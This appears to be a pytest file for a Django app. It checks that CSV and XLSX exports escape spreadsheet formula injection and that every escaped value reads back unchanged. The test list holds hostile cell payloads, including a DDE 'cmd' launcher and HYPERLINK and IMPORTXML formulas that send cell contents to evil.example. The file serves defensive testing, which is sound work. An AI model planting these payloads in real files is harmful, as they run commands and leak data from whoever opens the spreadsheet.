"""T8: what leaves for a spreadsheet is run by none, and comes back as it left. 16 kinds of beginnings, 4
bodies each; reopened as a program would open it: CSV cut at three separators, and XLSX."""

import ast
import csv
import io
import re
import zipfile
from datetime import UTC, datetime
from types import SimpleNamespace

import openpyxl
import pytest
import python_calamine
from django.conf import settings
from django.urls import reverse
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from clients.models import Client
from compliance.actions.sweep import sweep
from onboarding.importing.reading import look, rows
from onboarding.models import ImportProblem
from staff.models import Book, Team, User
from tests.drills import DRILL, tell
from tests.house.doors import DOORS
from tests.house.private import make_private
from tests.house.test_doors import address_of
from tests.onboarding.imports import NORA, upload
from ui import reports
from ui.reports import Cell, Column, Report, Table
from ui.rules.spreadsheets import csv_file, from_spreadsheet, spreadsheet_text

BEGINNINGS = [
    "=", "+", "-", "@", "\t", "\r", "\n", "\0=", "＝", "＋", "－", "＠", " =", "\xa0+", "\u3000-", "\ufeff@",
]  # fmt: skip
BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?x="&A1;"x")',
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
]
PAYLOADS = [beginning + body for beginning in BEGINNINGS for body in BODIES]
HARMLESS = [
    "Nora Lind",
    "'t Hart",
    "'s-Gravenhage",
    "O'Neil = O",
    "a@b.example",
    "1-2",
    "",
    "'",
    "Zürich",
    " x",
]
RUN = re.compile(r"^[\s\ufeff\u200b]*[=+\-@＝＋－＠]")


def kept(text):
    return text.replace("\0", "")  # which PostgreSQL does not hold


def test_there_are_sixty_four():
    assert len(set(PAYLOADS)) == 64


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_formula_becomes_a_text_and_comes_back(text):
    assert not RUN.match(spreadsheet_text(text))
    assert spreadsheet_text(text)[0] == "'"
    assert from_spreadsheet(spreadsheet_text(text)) == kept(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_a_text_stays_what_it_is(text):
    assert spreadsheet_text(text) == text
    assert from_spreadsheet(text) == text


@given(st.text(alphabet="'\"=+-@＝ \t\r\n,;|ab\ufeff\xa0", max_size=8))
def test_whatever_leaves_comes_back(text):
    assert not RUN.match(spreadsheet_text(text))
    assert from_spreadsheet(spreadsheet_text(text)) == text


def test_figures_stay_figures():
    assert spreadsheet_text(-3) == -3


@pytest.mark.parametrize("separator", [",", ";", "|", "\t"])
def test_no_cell_of_a_csv_is_run_wherever_it_is_opened(separator):
    inside = [
        f"a{each}{quotes}{text}" for each in ",;|\t" for quotes in ("", '"', '""', '" "') for text in PAYLOADS
    ]
    texts = [*PAYLOADS, *inside]
    assert [from_spreadsheet(spreadsheet_text(text)) for text in inside] == [kept(text) for text in inside]
    written = csv_file(["head", *PAYLOADS], [[text, text] for text in texts])
    for line in csv.reader(io.StringIO(written.lstrip("\ufeff"), newline=""), delimiter=separator):
        assert not any(RUN.match(cell) for cell in line), line


def test_a_csv_of_ours_is_read_again_as_it_was():
    texts = [*PAYLOADS, *HARMLESS]
    file = io.BytesIO(csv_file(["a", "b"], [[text, "x"] for text in texts]).encode())
    table = look(file, "x.csv")
    read = [from_spreadsheet(cells[0]) for _line, cells in rows(file, "x.csv", table.how)]
    assert read == [kept(text) for text in texts]


# --- every column of every file that leaves ----------------------------------------------------------------


def test_no_cell_of_a_report_is_a_formula_and_all_come_back():
    cora = SimpleNamespace(name="=Cora", login="cora")
    # XML holds no other control signs than these, and reads a line end as one of its own.
    for text in [each for each in PAYLOADS if each[0] != "\ufeff"]:
        table = Table(text, [Column(text, unit=text), Column("n", "count")], [[Cell(text), Cell(3)]])
        made = reports.as_spreadsheet(
            Report("x", text, "", datetime(2026, 1, 1, tzinfo=UTC), [(text, text)], [], [table, table]), cora
        )
        inside = zipfile.ZipFile(io.BytesIO(made))
        for name in inside.namelist():
            if name.startswith("xl/worksheets/sheet"):
                sheet = inside.read(name).decode()
                assert "<f>" not in sheet
                assert "hyperlink" not in sheet
        book = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(made))
        cells = [cell for line in book.get_sheet_by_index(0).to_python() for cell in line]
        assert not any(isinstance(cell, str) and RUN.match(cell) for cell in cells), cells
        back = {from_spreadsheet(cell) for cell in cells if isinstance(cell, str)}
        assert kept(text) in {each.replace("_x000D_", "\r") for each in back}, (text, back)
        if "\0" not in text:  # PostgreSQL holds none, and names of sheets are ours
            assert_only_text(made)


def assert_only_text(made: bytes) -> list[str]:
    """As another program reads it, which tells a formula from a text: what stands in its cells."""
    book, found = openpyxl.load_workbook(io.BytesIO(made)), []
    for sheet in book:
        for cell in (cell for line in sheet.iter_rows() for cell in line if cell.value is not None):
            assert cell.data_type != "f", cell.value
            assert cell.hyperlink is None, cell.value
            if isinstance(cell.value, str):
                assert not RUN.match(cell.value), cell.value
                found.append(from_spreadsheet(cell.value))
    assert not book.defined_names
    return found


SHEETS = [door for door in DOORS if door.name.endswith("_sheet")]
# Whatever a report may name: teams and people, by whom and of what.
NAMED = (Team, User, Book, Client)


def test_no_sheet_of_any_report_runs_what_stands_in_the_database(cast, page_of):
    stage, told = make_private(cast).whole(), 0
    sweep(timezone.localdate())
    browsers = {door.name: page_of(stage.people[door.get.split()[0]]) for door in SHEETS}
    for text in PAYLOADS if DRILL else PAYLOADS[::13]:
        for model in NAMED:
            model._base_manager.update(name=kept(text))
        for door in SHEETS:
            answer = browsers[door.name].get(address_of(door, stage, False))
            assert answer.status_code == 200
            told += kept(text) in {each.replace("_x000D_", "\r") for each in assert_only_text(answer.content)}
    tell("T8", payloads=len(PAYLOADS), sheets=len(SHEETS), sheets_that_tell_one=told)
    assert told


def test_no_cell_of_the_problems_of_an_import_is_a_formula_and_all_come_back(cast, page_of):
    found = upload(cast.cora, NORA)
    texts = [kept(text) for text in PAYLOADS]
    ImportProblem.objects.bulk_create(
        ImportProblem(
            of=found, kind="error", line=at, column=text, value=text, reason=text
        )
        for at, text in enumerate(texts, 2)
    )  # fmt: skip
    answer = page_of(cast.cora).get(reverse("onboarding:import_problems", args=[found.pk]))
    lines = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))[1:]
    assert not any(RUN.match(cell) for line in lines for cell in line)
    assert sorted(from_spreadsheet(line[2]) for line in lines) == sorted(texts)


def test_nothing_leaves_by_another_door():
    """Who writes a table imports this; the bench and the maker of the demo write for themselves alone."""
    makers = {"csv.writer", "csv.DictWriter", "xlsxwriter.Workbook"}
    found = set()
    for room in settings.ROOMS:
        for path in (settings.BASE_DIR / room).rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if isinstance(node, ast.Attribute) and ast.unparse(node) in makers:
                    found.add(path.relative_to(settings.BASE_DIR).as_posix())
    assert found == {
        "ui/rules/spreadsheets.py",
        "ui/reports.py",
        "rmcrm/management/commands/make_demo_list.py",  # made-up names, for the demo's own import
    }
